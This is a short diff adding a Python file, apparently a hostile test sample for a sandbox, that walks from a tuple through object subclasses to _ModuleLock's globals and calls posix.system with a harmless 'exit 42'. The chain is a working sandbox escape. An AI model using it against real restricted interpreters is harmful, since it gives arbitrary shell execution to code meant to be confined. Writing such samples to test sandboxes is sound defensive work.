@@ -1,0 +1,6 @@
+"""Hostile: climbs from a tuple to every loaded class, from one of them to system(), and calls it."""
+
+for cls in ().__class__.__base__.__subclasses__():
+    if cls.__name__ == "_ModuleLock":
+        modules = cls.__init__.__globals__["sys"].modules
+        print("the shell said", modules["posix"].system("exit 42"))
